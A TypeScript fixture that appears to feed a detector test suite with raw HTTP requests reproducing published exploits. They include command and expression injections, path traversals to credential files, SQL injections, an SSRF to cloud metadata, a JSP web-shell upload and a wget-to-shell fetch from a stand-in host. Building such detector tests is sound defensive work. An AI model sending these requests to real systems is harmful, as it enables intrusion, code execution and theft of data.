// The fourth set of attacks, whole requests: published attacks on products of 2019 to 2026. Written before its author had read the
// detectors. What they call is harmless.
import type { Family } from "../contract.ts"
import { form, get, json, message, parts, post } from "../raw.ts"
import { rowsOf } from "../rows.ts"

export const FOURTH_PUBLISHED: readonly Family[] = [
    {
        name: "products, fourth",
        rows: [
            ...rowsOf(
                "request",
                "commands and code",
                form("/password_change.cgi", "user=rei&pam=&expired=2&old=a|id&new1=a&new2=a"),
                form("/ajax/render/widget_php", "widgetConfig[code]=echo shell_exec('id');exit;"),
                get(
                    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
                ),
                get(
                    "/solr/core/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))",
                ),
                post(
                    "/console/css/%252e%252e%252fconsole.portal",
                    "application/x-www-form-urlencoded",
                    "_nfpb=true&handle=com.tangosol.coherence.mvel2.sh.ShellSession(\"java.lang.Runtime.getRuntime().exec('id');\")",
                ),
                form(
                    "/pages/doenterpagevariables.action",
                    'queryString=aaa\\u0027%2b{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance().getEngineByName(\\u0027js\\u0027).eval(\\u0027java.lang.Runtime.getRuntime().exec("id")\\u0027)}%2b\\u0027',
                ),
                post(
                    "/functionRouter",
                    "text/plain",
                    "a",
                    'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")',
                ),
                json("/actuator/gateway/routes/a", {
                    id: "a",
                    filters: [
                        {
                            name: "AddResponseHeader",
                            args: {
                                name: "Result",
                                value: '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}',
                            },
                        },
                    ],
                    uri: "http://www.example.jp",
                }),
                json(
                    "/mgmt/tm/util/bash",
                    { command: "run", utilCmdArgs: "-c id" },
                    "Connection: keep-alive, X-F5-Auth-Token",
                ),
                get("/jobs?doAs=`sleep+5`"),
                get("/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`id>/tmp/a`"),
                form(
                    "/template/aui/text-inline.vm",
                    "label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X','1')",
                ),
                json("/api/setup/validate", {
                    token: "0a1b",
                    details: {
                        engine: "h2",
                        details: {
                            db: "zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER a BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('id')\n$$--=x",
                        },
                    },
                }),
                post("/?PHPRC=/dev/fd/0", "application/x-www-form-urlencoded", 'auto_prepend_file="/etc/passwd"'),
                get(
                    "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=a&valueReference=exec(java.lang.Runtime.getRuntime(),'id')",
                ),
                message(
                    "GET",
                    "/ssl-vpn/hipreport.esp",
                    ["Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/a`sleep${IFS}5`"],
                    "",
                ),
                json("/api/v1/validate/code", {
                    code: "@exec(\"raise Exception(__import__('subprocess').check_output('id'))\")\ndef a():\n  pass",
                }),
                form(
                    "/loginok.html",
                    'username=anonymous%00]]%0dlocal+h+%3d+io.popen("id")%0dlocal+r+%3d+h%3aread("*a")%0dprint(r)%0d--&password=',
                ),
                get(
                    "/mifs/rs/api/v2/featureusage?format=${\"\".getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
                ),
                form(
                    "/webtools/control/main/ProgramExport",
                    "groovyProgram=\\u0074\\u0068\\u0072\\u006f\\u0077\\u0020\\u006e\\u0065\\u0077\\u0020\\u0045\\u0078\\u0063\\u0065\\u0070\\u0074\\u0069\\u006f\\u006e\\u0028\\u0027\\u0069\\u0064\\u0027\\u002e\\u0065\\u0078\\u0065\\u0063\\u0075\\u0074\\u0065\\u0028\\u0029\\u002e\\u0074\\u0065\\u0078\\u0074\\u0029\\u003b",
                ),
                message(
                    "PUT",
                    "/dataBases/upgrademysqlstatus",
                    ["Content-Type: application/json"],
                    '{"statusfile":"/dev/null; id; #"}',
                ),
                json("/api/v1/totp/user-backup-code/../../license/keys-status/%3bid%3b", {}),
                post(
                    "/",
                    "text/plain;charset=UTF-8",
                    '{"then":"$1:__proto__:then","status":"resolved_model","value":"{\\"then\\":\\"$B0\\"}","_response":{"_prefix":"process.mainModule.require(\'child_process\').execSync(\'id\');","_formData":{"get":"$1:constructor:constructor"}}}',
                    "Next-Action: x",
                ),
                json("/api/webhook/validating", {
                    request: {
                        object: {
                            metadata: {
                                annotations: {
                                    "nginx.ingress.kubernetes.io/auth-url":
                                        "http://x.example/#;}}}\n\nssl_engine /proc/1/fd/5;\n",
                                },
                            },
                        },
                    },
                }),
                get(
                    "/actions/assets/generate-transform?a=1&handle[width]=1&handle[as%20x][class]=GuzzleHttp\\Psr7\\FnStream&handle[as%20x][__construct()][][close]=phpinfo",
                ),
                json("/index.php?p=actions/assets/generate-transform", {
                    assetId: 1,
                    handle: {
                        width: 1,
                        height: 1,
                        "as session": {
                            class: "craft\\behaviors\\FieldLayoutBehavior",
                            __class: "GuzzleHttp\\Psr7\\FnStream",
                            "__construct()": [[]],
                            _fn_close: "phpinfo",
                        },
                    },
                }),
                post(
                    "/_ignition/execute-solution",
                    "application/json",
                    '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"a","viewFile":"php://filter/write=convert.base64-decode|convert.base64-encode/resource=../storage/logs/laravel.log"}}',
                ),
                get("/admin/config.php?display=a&template=x&brand=x'%2bpassthru(id)%2b'"),
                form("/cgi-bin/luci/;stok=/locale?form=country", "operation=write&country=$(id>/tmp/a)"),
                get("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ="),
                get("/boaform/admin/formPing?target_addr=;wget%20http://x.example/a%20-O%20-%20|sh;&waninf=1"),
                form("/goform/formSysCmd", "sysCmd=cat%20/etc/passwd&apply=Apply"),
                get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=busybox&curpath=/&currentsetting.htm=1"),
                form("/cgi-bin/slogin/login.py", "username=a", "User-Agent: () { :; }; echo ; /bin/id"),
                form(
                    "/users/sign_in",
                    "name=a&authenticity_token=a&user[login]=Process.clock_gettime(0);%60id%60",
                    "X-Requested-With: XMLHttpRequest",
                ),
                json("/api/2.0/mlflow/model-versions/create", {
                    name: "a",
                    source: "file:///proc/self/root/../../etc",
                }),
                get("/get-artifact?path=../../../../../etc/passwd&run_uuid=0a1b"),
            ),
            ...rowsOf(
                "request",
                "files and addresses",
                get("/vpn/../vpns/cfg/smb.conf"),
                get("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"),
                get("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
                get(
                    "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
                ),
                get("/public/plugins/alertlist/../../../../../../../../etc/passwd"),
                get("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd"),
                get("/?unix:AAAAAAAAAAAAAAAA|http://169.254.169.254/latest/meta-data/"),
                get("/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd"),
                get("/%2F%2F%2F%2F%2F%2F%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
                form("/clients/MyCRL", "aCSHELL/../../../../../../../etc/shadow"),
                get("/@fs/etc/passwd?raw??"),
                get("/@fs/etc/passwd?import&?inline=1.wasm?init"),
                get("/static/../../../a/../../../../etc/passwd"),
                get("/..%2f..%2f..%2f..%2fwindows/win.ini"),
                get("/api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi"),
                get("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css"),
                get("/app/rest/users/id:1/tokens/RPC2;.jsp?jsp=/app/rest/server;.jsp"),
                post(
                    "/rest/V1/guest-carts/1/estimate-shipping-methods",
                    "application/json",
                    '{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":"http://x.example/a.dtd","dataIsURL":true,"options":1337}}}}}}',
                ),
                post(
                    "/dana-ws/saml20.ws",
                    "text/xml",
                    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:KeyInfo><ds:RetrievalMethod URI="http://127.0.0.1:8090/api/v1/license/keys-status/%3bid%3b"/></ds:KeyInfo></ds:Signature></soap:Body></soap:Envelope>',
                ),
                form(
                    "/OA_HTML/configurator/UiServlet",
                    "redirectFromJsp=1&getUiType=%3C%3Fxml+version%3D%221.0%22%3F%3E%3Cinitialize%3E%3Cparam+name%3D%22return_url%22%3Ehttp%3A%2F%2F127.0.0.1%3A7201%2FOA_HTML%2Fhelp%2F..%2Fieshostedsurvey.jsp%3C%2Fparam%3E%3C%2Finitialize%3E",
                ),
                message(
                    "PUT",
                    "/a/session",
                    ["Content-Range: bytes 0-5/10", "Content-Type: application/octet-stream"],
                    "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap",
                ),
                message(
                    "PUT",
                    "/a.jsp/",
                    ["Content-Type: text/plain"],
                    '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
                ),
                message(
                    "GET",
                    "/admin",
                    ["x-middleware-subrequest: middleware:middleware:middleware:middleware:middleware"],
                    "",
                ),
                message("GET", "/", ["X-Forwarded-Host: x.example/a?'><script src=//x.example></script>"], ""),
                parts("/ui/vropspluginui/rest/services/uploadova", [
                    'name="uploadFile"; filename="../../usr/lib/vmware-vsphere-ui/server/work/a.jsp"',
                    "<% out.print(1); %>",
                ]),
                parts("/fileupload/toolsAny", [
                    'name="../../../../repository/deployment/server/webapps/authenticationendpoint/a.jsp"; filename="../../../../repository/deployment/server/webapps/authenticationendpoint/a.jsp"',
                    "<% out.print(1); %>",
                ]),
                parts(
                    "/upload.action",
                    ['name="Upload"; filename="a.txt"', "a"],
                    ['name="uploadFileName"', "../../webapps/ROOT/a.jsp"],
                ),
            ),
            ...rowsOf(
                "request",
                "databases",
                form("/wp-content/plugins/wp-automatic/inc/csv.php", "q=SELECT * FROM wp_users&auth=%00&integ=0a1b"),
                message("GET", "/api/fabric/device/status", ["Authorization: Bearer ';select/**/sleep(5);-- -"], ""),
                post(
                    "/moveitisapi/moveitisapi.dll?action=m2",
                    "text/plain",
                    "a",
                    "X-siLock-SessVar0: MyPkgAccessCode: 123', '127.0.0.1'); INSERT INTO userexternaltokens VALUES ('a'); --",
                ),
                get(
                    "/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)",
                ),
                get("/wp-json/wp/v2/a?order=asc,(select*from(select(sleep(5)))a)"),
                form("/wp-admin/admin-ajax.php", 'action=a&nonce=0&tax_query={"0":{"terms":["1) OR SLEEP(5)#"]}}'),
                get("/zabbix/jsrpc.php?type=9&method=screen.get&profileIdx2=updatexml(0,concat(0xa,user()),0)"),
                json("/api/ds/query", {
                    queries: [
                        {
                            datasource: { type: "__expr__", uid: "__expr__" },
                            type: "sql",
                            expression: "SELECT content FROM read_blob('/etc/passwd')",
                        },
                    ],
                }),
                get("/Orion/invalid.aspx.js?id=1%27%3bwaitfor%20delay%20%270:0:5%27--"),
                form(
                    "/index.php/ajax",
                    "module=Users&search_text=%27)/**/oR/**/(SELECT/**/1/**/FROM(SELECT/**/COUNT(*),CONCAT(user(),FLOOR(RAND(0)*2))x/**/FROM/**/INFORMATION_SCHEMA.PLUGINS/**/GROUP/**/BY/**/x)a)%23",
                ),
            ),
        ],
    },
]
